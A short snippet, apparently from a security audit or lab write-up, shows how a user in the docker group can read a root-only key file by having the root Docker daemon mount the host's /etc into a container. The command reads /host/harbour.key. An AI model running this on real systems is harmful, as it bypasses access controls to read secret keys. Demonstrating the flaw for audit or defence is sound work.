# why: Mira may not read the file. The daemon may, because it is root, and it does what she asks: mount /etc of the machine into a container in which she is root.
su - mira -c 'docker run --name proof -v /etc:/host:ro busybox:1.37 cat /host/harbour.key'
